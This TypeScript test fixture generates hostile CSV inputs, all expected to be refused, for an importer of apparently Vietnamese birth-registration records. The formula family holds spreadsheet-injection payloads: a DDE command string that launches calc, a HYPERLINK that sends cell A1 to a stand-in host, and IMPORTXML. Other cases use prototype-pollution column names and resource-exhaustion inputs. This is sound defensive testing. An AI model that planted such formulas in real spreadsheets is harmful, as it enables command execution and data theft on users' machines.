import { input } from "../build.ts";
import type { Expectation, Family, HostileInput } from "../types.ts";

const HEADER = "sieuDuLieu.maBanGhi;sieuDuLieu.luocDo;ngayDangKy;nguoiDuocKhaiSinh.hoTen.dayDu";
const ROW = "ks-1;ho-tich/khai-sinh;2025-08-12;";
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const FORMULAS = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://vi-du.example?"&A1)',
  "SUM(A1:A9)*cmd",
  "IMPORTXML(A1)",
];

/** Tables as CSV. */
export function tables(): readonly Family[] {
  const one = (name: string, expect: Expectation, make: () => string): HostileInput =>
    input(name, expect, () => ({ kind: "csv", text: make() }));
  return [
    {
      name: "csv-formulas",
      about: "cells that a spreadsheet would run, plain, quoted and after a line break",
      inputs: TRIGGERS.flatMap((trigger) =>
        FORMULAS.flatMap((formula) => [
          one(
            `${JSON.stringify(trigger)} ${formula}`,
            "refused",
            () => `${HEADER}\n${ROW}${quoted(trigger + formula)}\n`,
          ),
          one(
            `${JSON.stringify(trigger)} ${formula} after a line break`,
            "refused",
            () => `${HEADER}\n${ROW}${quoted(`Ví Dụ\n${trigger}${formula}`)}\n`,
          ),
        ]),
      ),
    },
    {
      name: "csv-form",
      about: "quotes that never close, rows of other lengths, other separators, headers that lie",
      inputs: [
        one(
          "a quote that never closes",
          "refused",
          () => `${HEADER}\n${ROW}"Ví Dụ\n${`${ROW}x\n`.repeat(100)}`,
        ),
        one("a quote in the middle", "refused", () => `${HEADER}\n${ROW}Ví "Dụ"\n`),
        one("text after a quote", "refused", () => `${HEADER}\n${ROW}"Ví"Dụ\n`),
        one("100,000 quotes", "refused", () => `${HEADER}\n${ROW}${'"'.repeat(100_001)}\n`),
        one("too few cells", "refused", () => `${HEADER}\nks-1\n`),
        one("too many cells", "refused", () => `${HEADER}\n${ROW}a;b;c;d\n`),
        one("100,000 cells", "refused", () => `${HEADER}\n${ROW}${";".repeat(100_000)}\n`),
        one(
          "100,000 columns",
          "refused",
          () => `${HEADER};${Array.from({ length: 100_000 }, (_, n) => `c${n}`).join(";")}\n${ROW}\n`,
        ),
        one("a column twice", "refused", () => `${HEADER};ngayDangKy\n${ROW}a;2025-01-01\n`),
        one(
          "columns of the machinery",
          "refused",
          () => `__proto__;constructor.prototype.a;${HEADER}\n1;2;${ROW}a\n`,
        ),
        one(
          "a column that is a field and an object",
          "refused",
          () => `${HEADER};nguoiDuocKhaiSinh.hoTen\n${ROW}a;b\n`,
        ),
        one("a column 1,000 levels deep", "refused", () => `${HEADER};${"a.".repeat(1_000)}a\n${ROW}a;b\n`),
        one(
          "a column with an index of a billion",
          "refused",
          () => `${HEADER};chuKySo.1000000000.loaiChuKy\n${ROW}a;b\n`,
        ),
        one(
          "a column with an index below zero",
          "refused",
          () => `${HEADER};chuKySo.-1.loaiChuKy\n${ROW}a;b\n`,
        ),
        one("no header", "refused", () => `${ROW}a\n${ROW}b\n`),
        one("only a header", "refused", () => `${HEADER}\n`),
        one("nothing", "refused", () => ""),
        one("only line breaks", "refused", () => "\n".repeat(100_000)),
        one("tabs", "refused", () => `${HEADER}\n${ROW}a\n`.replaceAll(";", "\t")),
        one("commas", "refused", () => `${HEADER}\n${ROW}a\n`.replaceAll(";", ",")),
        one("two separators", "refused", () => `${HEADER}\n${ROW.replaceAll(";", ",")}a\n`),
        one("line breaks of three kinds", "refused", () => `${HEADER}\r\n${ROW}a\n${ROW}b\r${ROW}c`),
        one("a NUL", "refused", () => `${HEADER}\n${ROW}a\u0000b\n`),
        one("a separator line of Excel", "refused", () => `sep=;\n${HEADER}\n${ROW}a\n`),
        one("one cell of a megabyte", "refused", () => `${HEADER}\n${ROW}${"a".repeat(1_000_000)}\n`),
        one("30,000 rows that are all wrong", "refused", () => `${HEADER}\n${`${ROW}=1\n`.repeat(30_000)}`),
      ],
    },
  ];
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}
